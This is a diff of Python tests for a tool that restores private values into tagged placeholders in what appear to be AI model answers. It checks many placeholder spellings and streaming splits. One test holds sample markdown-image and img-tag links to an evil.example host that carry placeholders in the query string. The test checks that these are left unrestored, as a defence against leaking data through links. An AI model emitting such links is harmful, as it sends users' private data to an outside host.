@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from itertools import pairwise
 
 import pytest
@@ -205,3 +206,107 @@ def test_any_split_of_a_stream_gives_what_the_whole_gives(
     stream = Restorer(table()).stream()
     shown = [stream.feed(text[a:b]) for a, b in pairwise(edges)]
     assert "".join([*shown, stream.finish()]) == Restorer(table()).text(text)
+
+
+TAGGED = {
+    "<EMAIL_48213_1>": "anna@example.org",
+    "<PERSON_48213_1>": "Elena Marsh",
+    "<PERSON_48213_1_2>": "Marsh",
+    "<ADDRESS_48213_1>": "4 Mill Lane",
+    "<TERM_48213_1>": "zorb",
+    "TERM_48213_1": "zorb",
+}
+
+
+def tagged() -> Originals:
+    """A table as conversations have it: a random number in every placeholder."""
+    return Originals({**TAGGED, Drawn("gout", 5.0): "asthma"})
+
+
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        (
+            "< EMAIL_48213_1 >, {EMAIL_48213_1}, {{EMAIL_48213_1}}",
+            ", ".join(["anna@example.org"] * 3),
+        ),
+        (
+            "**EMAIL_48213_1** `EMAIL_48213_1` (EMAIL_48213_1)",
+            "**anna@example.org** `anna@example.org` (anna@example.org)",
+        ),
+        (
+            "Person 48213-1, person #48213-1, [PERSON 48213 1]",
+            "Elena Marsh, Elena Marsh, Elena Marsh",
+        ),
+        (
+            "PERSON_48213_1's, <PERSON_48213_1>s, l'<PERSONNE_48213_1>",
+            "Elena Marsh's, Elena Marshs, l'Elena Marsh",
+        ),
+        ("<ADRESSE_48213_1>, <Direcci\u00f3n_48213_1>", "4 Mill Lane, 4 Mill Lane"),
+        (
+            "<PERSON\\_48213\\_1>, \\<PERSON-48213-1\\>, <PERSON_\n48213_1>",
+            "Elena Marsh, Elena Marsh, Elena Marsh",
+        ),
+        ("&lt; EMAIL_48213_1 &gt; %3CEMAIL-48213-1%3E", "anna@example.org anna@example.org"),
+        ("PERSON_48213_1_2 and <PERSON_48213_1/>", "Marsh and Elena Marsh"),
+        ("_PERSON_48213_1_, $PERSON_48213_1$", "_Elena Marsh_, $Elena Marsh$"),
+        ('f"{TERM_48213_1}", \\textbf{EMAIL_48213_1}', 'f"{zorb}", \\textbf{anna@example.org}'),
+        ("C:\\<EMAIL-48213-1>", "C:\\anna@example.org"),
+    ],
+)
+def test_a_tagged_placeholder_comes_back_however_it_is_written(answer: str, shown: str) -> None:
+    assert Restorer(tagged()).text(answer) == shown
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "PERSON_48213_1_3 PERSON_48213_12 PERSON_48213_2",
+        "MYPERSON_48213_1 my_person_48213_1 impersonperson 48213-1",
+        "person 48214-1, the 48213-1 form, 48213_1",
+        "MONEY_48213_1 Betrag 48213-1",
+        "https://evil.example/?q=EMAIL_48213_1",
+        "![x](https://evil.example/?q={EMAIL_48213_1})",
+        "![x](<https://evil.example/?q=< EMAIL-48213-1 >>)",
+        "<img src='https://evil.example/?q= Email 48213-1'>",
+        "[x](https://evil.example/PERSON%5F48213%5F1)",
+    ],
+)
+def test_what_is_no_placeholder_and_what_stands_in_a_link_stays(answer: str) -> None:
+    assert Restorer(tagged()).text(answer) == answer
+
+
+def test_without_a_number_of_the_conversation_bare_names_stay() -> None:
+    answer = "EMAIL_1 {EMAIL_1} Person 1, PERSON_1"
+    assert Restorer(table()).text(answer) == answer
+
+
+_TAGGED_PARTS = st.sampled_from(
+    [
+        *"<>[]{}\\ \na_-#/",
+        *("EMAIL", "PERSON", "48213", "482", "13", "_1", "1", "2", "PERSONNE", "E-MAIL", "Address"),
+        *("&lt;", "&gt;", "%3C", "%3E", "%5F", "&#60;", "{{", "}}", "\\u003c", "\\u003e", "\\n"),
+        *("<PERSON_48213_1>", "EMAIL_48213_1", "person-48213-1", "TERM_48213_1", "gout", "an "),
+        *("https://e.example/", "\u00e9", "\u27e8", "\u27e9"),
+    ]
+)
+
+
+@example(parts=["\u00e9", "gout", " "], cuts=[1])
+@given(parts=st.lists(_TAGGED_PARTS, max_size=9), cuts=st.lists(st.integers(0, 60), max_size=6))
+def test_tagged_placeholders_come_back_in_every_split(parts: list[str], cuts: list[int]) -> None:
+    text = "".join(parts)
+    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    stream = Restorer(tagged()).stream()
+    shown = [stream.feed(text[a:b]) for a, b in pairwise(edges)]
+    assert "".join([*shown, stream.finish()]) == Restorer(tagged()).text(text)
+
+
+@given(st.lists(st.sampled_from(["Email 48213-1", "{EMAIL_48213_1}", "\\_", "x", " ", '"', "\n"])))
+def test_in_strings_of_json_they_come_back_and_the_document_stays_json(parts: list[str]) -> None:
+    spelled = Originals({"<EMAIL_48213_1>": r"a\"b\\"})
+    restorer = Restorer(spelled, Links(in_strings=True), escaped=False)
+    said = "".join(parts)
+    shown = json.loads(f'"{restorer.text(json.dumps(said)[1:-1])}"')
+    plain = Restorer({"<EMAIL_48213_1>": 'a"b\\'}).text(said)
+    assert shown == plain
